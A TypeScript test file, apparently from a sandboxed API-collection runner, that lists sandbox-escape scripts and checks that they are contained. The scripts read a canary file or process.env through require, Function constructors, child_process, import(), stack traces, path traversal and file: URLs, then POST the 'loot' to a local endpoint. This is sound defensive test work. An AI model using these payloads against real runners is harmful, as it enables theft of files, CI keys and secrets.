import { type Attack, brokenScript, contained, lootRun } from './attack.ts';

/** A script that prints its loot in every possible way and sends it to the server. The script itself must succeed. */
const tell = `
function tell(loot) {
  var text = String(loot);
  console.log(text);
  pm.test("loot: " + text.slice(0, 2000), function () {});
  pm.sendRequest({ url: pm.variables.replaceIn("{{base_url}}/loot"), method: "POST", body: { mode: "raw", raw: text } }, function () {});
}
function take(thief) {
  try { tell(thief()); } catch (error) { tell("threw " + error.message); }
}
`;
const theft = (thief: string) => ({ ...contained, entry: { after: `${tell}take(function () { return ${thief}; });` } });
const later = (promise: string) => ({
  ...contained,
  entry: { after: `${tell}${promise}.then(tell, function (error) { tell("threw " + error.message); });` },
});

const send = (options: string) => ({
  ...contained,
  entry: {
    after: `pm.sendRequest({ url: pm.variables.replaceIn("{{base_url}}/loot"), method: "POST", body: ${options} }, function () {});`,
  },
});

/** Scripts of a list that try to reach the machine: files, environment variables, programs. */
const thieves: readonly Omit<Attack, 'asked'>[] = [
  {
    name: 'a local Unix socket',
    why: "Node's permissions do not protect it, and it may control the whole machine",
    ...contained,
    entry: {
      after: `${tell}pm.sendRequest("http://unix:{socket}:/stolen", function (error, response) { tell(error ? "threw" : response.text()); });`,
    },
  },
  {
    name: 'a file, through require',
    why: 'the sandbox of Postman has its own require, which includes an fs',
    ...theft('require("fs").readFileSync("{canary}", "utf8")'),
  },
  {
    name: "a file, through the sandbox's internal require",
    why: 'a function created from text sees variables that a script does not see',
    ...theft('Function("return require")()("fs").readFileSync("{canary}", "utf8")'),
  },
  {
    name: 'a child process or a thread',
    why: 'they would have full access to Node or to the machine',
    ...theft(
      '["child_process", "worker_threads"].map(function (name) { try { return Object.keys(Function("return require")()(name)); } catch (error) { return error.message; } }).join() + Function("return require")()("child_process").execFileSync("cat", ["{canary}"])',
    ),
  },
  {
    name: 'the environment, through process.env',
    why: 'it contains the keys of CI services',
    ...theft('typeof process + JSON.stringify((0, eval)("process.env"))'),
  },
  {
    name: 'the environment, through the constructor of a function',
    why: 'it creates functions in the global scope',
    ...theft('JSON.stringify((function () {}).constructor("return process")().env)'),
  },
  {
    name: 'the environment, through objects of the host',
    why: 'an object of the host gives access to the constructors of the host',
    ...theft(
      '[pm.sendRequest, console.log, require("buffer").Buffer.from, pm.response.text, setTimeout].map(function (one) { try { return JSON.stringify(one.constructor("return process")().env); } catch (error) { return error.message; } }).join()',
    ),
  },
  {
    name: 'the environment, through the constructor of an asynchronous function',
    why: 'it is another constructor than that of other functions',
    ...later('(async function () {}).constructor("return JSON.stringify(process.env)")()'),
  },
  {
    name: 'the environment, through the call stack',
    why: 'a stack trace gives access to callers and their "this"',
    ...theft(
      '(function () { Error.prepareStackTrace = function (_, stack) { return stack.map(function (one) { return String(one.getThis && one.getThis() && one.getThis().process && one.getThis().process.env.CANARY); }); }; return String(new Error().stack); })()',
    ),
  },
  {
    name: 'a module of Node, through import()',
    why: 'import() is syntax and cannot be removed like a function',
    ...later('import("node:fs").then(function (fs) { return fs.readFileSync("{canary}", "utf8"); })'),
  },
  {
    name: 'a file, as the body of a request',
    why: 'newman would read the file for the script',
    ...send('{ mode: "file", file: { src: "{canary}" } }'),
  },
  {
    name: 'a file, as a field of a form',
    why: 'newman would read the file for the script',
    ...send('{ mode: "formdata", formdata: [{ key: "loot", type: "file", src: "{canary}" }] }'),
  },
  {
    name: 'a file, through a path that starts inside the folder',
    why: 'a check that compares only the start of the path would accept it',
    ...send('{ mode: "file", file: { src: "./../../../../../../..{canary}" } }'),
  },
  {
    name: 'a file, through a file: URL',
    why: 'some HTTP libraries support other schemes; the request fails, and so does the run, as in newman',
    ...brokenScript,
    entry: {
      after: `${tell}pm.sendRequest("file://{canary}", function (error, response) { tell(error ? "threw" : response.text()); });`,
    },
  },
  {
    name: 'a secret of the run, printed in every way',
    why: 'a script can read the secrets of its list, and can send them, as SECURITY.md says; output must mask them',
    ...contained,
    entry: {
      after:
        'var word = pm.environment.get("password"); console.log(word); pm.test(word, function () {}); pm.test(btoa(word), function () {}); pm.sendRequest(pm.variables.replaceIn("{{base_url}}/loot"), function () {});',
    },
  },
];

export const thefts: readonly Attack[] = thieves.map((attack) => ({ ...attack, asked: lootRun }));
